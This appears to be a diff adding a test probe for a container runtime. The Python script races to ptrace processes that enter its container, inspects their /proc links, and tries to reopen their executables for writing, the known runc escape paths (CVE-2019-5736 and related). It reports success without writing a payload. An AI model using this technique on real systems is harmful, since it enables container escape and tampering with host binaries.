@@ -1,0 +1,65 @@
+# Lies in wait for processes that somebody else puts into this container, and tries to take them over before they are what they are to be: by
+# ptrace(2), by what /proc says of them, by their program's file, to which it tries to write later (CVE-2016-9962, CVE-2019-5736, CVE-2024-21626).
+import ctypes
+import os
+
+libc = ctypes.CDLL(None, use_errno=True)
+PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_DETACH, WALL = 0x4206, 0x4207, 17, 0x40000000
+# What is executed in here lies there.
+ITS_OWN = ("/usr/", "/bin/", "/payload")
+handles, met = [], 0
+
+
+def look(pid):
+    """Who may follow this link may do all the rest. Of a process that is none of ours it must never be so."""
+    program = os.readlink(f"/proc/{pid}/exe")
+    if not program.startswith(ITS_OWN):
+        print(f"TAKEN look {program}", flush=True)
+        handles.append(os.open(f"/proc/{pid}/exe", os.O_PATH))
+
+
+def look_outside(pid):
+    for name in os.listdir(f"/proc/{pid}/fd"):
+        if os.path.exists(f"/proc/{pid}/fd/{name}/etc/coracle"):
+            print(f"TAKEN descriptor {name}", flush=True)
+    if os.path.exists(f"/proc/{pid}/cwd/etc/coracle") or os.path.exists(f"/proc/{pid}/root/etc/coracle"):
+        print("TAKEN directory", flush=True)
+
+
+def seize(pid):
+    if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) < 0:
+        return
+    try:
+        look(pid)
+    finally:
+        # A tracer that does not wait keeps its tracee from ever being gone.
+        libc.ptrace(PTRACE_INTERRUPT, pid, 0, 0)
+        os.waitpid(pid, WALL)
+        libc.ptrace(PTRACE_DETACH, pid, 0, 0)
+
+
+def write_to_programs():
+    for handle in handles:
+        try:
+            os.close(os.open(f"/proc/self/fd/{handle}", os.O_WRONLY))
+            print("TAKEN exe", flush=True)
+        except OSError:
+            pass
+
+
+print("lurking", flush=True)
+latest = os.getpid()
+while True:
+    # Numbers are given one after the other: the next one is ours before anybody else knows of it.
+    for pid in range(latest + 1, latest + 30):
+        if not os.path.exists(f"/proc/{pid}"):
+            continue
+        latest, met = pid, met + 1
+        for attempt in (look, look, look, seize, look_outside, look):
+            try:
+                attempt(pid)
+            except OSError:
+                pass
+        write_to_programs()
+        if met % 10 == 0:
+            print(f"met {met}", flush=True)
